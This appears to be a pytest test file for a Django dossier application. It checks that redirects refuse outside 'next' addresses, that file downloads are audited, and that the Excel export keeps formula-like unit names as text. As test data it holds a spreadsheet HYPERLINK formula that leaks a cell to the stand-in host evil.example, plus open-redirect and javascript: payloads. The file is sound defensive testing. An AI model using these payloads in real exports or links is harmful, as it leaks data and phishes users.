"""Issue 10 on the dossier pages: `next` is checked before redirecting, downloads are audited, the Excel
export of dossiers cannot carry a formula from a unit's name."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from anhai_thidua.core.audit import audit_verify
from anhai_thidua.core.models import AuditEntry
from criteria.workbooks import dossiers_workbook
from nominations import services
from nominations.models import Attachment
from tests.factories import UnitFactory, UserFactory

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    "next_url",
    ["https://evil.example/phish", "//evil.example/phish", "javascript:alert(1)", "http://testserver.evil/"],
)
def test_attachment_remove_refuses_a_next_address_outside_the_site(login, head_a, complete_a, next_url):
    client = login(head_a)
    attachment = Attachment.objects.filter(dossier=complete_a).first()

    response = client.post(
        reverse("nominations:attachment_remove", args=[complete_a.pk, attachment.pk]), {"next": next_url}
    )

    assert response.status_code == 302
    assert response["Location"] == reverse("nominations:detail", args=[complete_a.pk])
    assert not Attachment.objects.filter(pk=attachment.pk).exists()  # the removal itself still happened


def test_attachment_remove_follows_a_next_address_inside_the_site(login, head_a, complete_a):
    client = login(head_a)
    attachment = Attachment.objects.filter(dossier=complete_a).first()
    inside = reverse("nominations:minutes", args=[complete_a.pk])

    response = client.post(
        reverse("nominations:attachment_remove", args=[complete_a.pk, attachment.pk]), {"next": inside}
    )

    assert response["Location"] == inside


def test_a_stored_file_download_is_audited(login, head_a, complete_a):
    client = login(head_a)
    attachment = Attachment.objects.filter(dossier=complete_a).first()
    before = AuditEntry.objects.filter(action="file_download").count()

    response = client.get(reverse("nominations:attachment_download", args=[complete_a.pk, attachment.pk]))
    b"".join(response.streaming_content)

    assert response.status_code == 200
    entries = list(AuditEntry.objects.filter(action="file_download"))
    assert len(entries) == before + 1
    entry = entries[0]  # newest first
    assert entry.actor == head_a and entry.actor_name == "Phạm Văn Tâm"
    assert entry.note.startswith(
        reverse("nominations:attachment_download", args=[complete_a.pk, attachment.pk])
    )
    assert attachment.original_name in entry.note
    assert audit_verify() == (AuditEntry.objects.count(), None)


def test_a_generated_document_download_is_audited(login, head_a, complete_a):
    client = login(head_a)
    url = reverse("nominations:cover_letter_pdf", args=[complete_a.pk])

    response = client.get(url)

    assert response.status_code == 200
    entry = AuditEntry.objects.filter(action="file_download").first()
    assert entry.actor == head_a
    assert entry.note.startswith(url) and ".pdf" in entry.note


def test_a_refused_download_is_not_audited_as_a_download(login, head_b, complete_a):
    client = login(head_b)
    attachment = Attachment.objects.filter(dossier=complete_a).first()

    response = client.get(reverse("nominations:attachment_download", args=[complete_a.pk, attachment.pk]))

    assert response.status_code in (403, 404)
    assert not AuditEntry.objects.filter(action="file_download").exists()


def test_the_dossier_export_keeps_a_formula_like_unit_name_as_text(campaign):
    unit = UnitFactory(name=HOSTILE_NAME, code="hostile")
    head = UserFactory(username="hostile_head", roles=[("unit_head", unit)])
    services.dossier_create(campaign=campaign, unit=unit, actor=head)

    data = dossiers_workbook(campaign)

    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE_NAME]
    assert len(cells) == 1, "the name is exported exactly as entered"
    assert cells[0].data_type == "s"  # a string cell, never a formula
    assert cells[0].quotePrefix is True  # and Excel keeps it text when the cell is edited
    # the raw sheet XML holds no <f> (formula) element at all
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
